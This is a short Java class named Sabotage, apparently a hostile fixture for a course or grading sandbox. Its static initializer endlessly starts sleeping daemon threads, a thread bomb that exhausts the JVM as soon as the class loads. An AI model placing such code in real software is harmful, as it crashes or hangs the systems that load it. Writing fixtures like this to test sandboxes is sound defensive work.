package course.counter;

/** Hostile: Starts threads that never end until the JVM gives out. */
public final class Sabotage {

    private static boolean armed = true;

    static {
        while (armed) {
            Thread sleeper = new Thread(() -> {
                try {
                    Thread.sleep(Long.MAX_VALUE);
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                }
            });
            sleeper.setDaemon(true);
            sleeper.start();
        }
    }
}
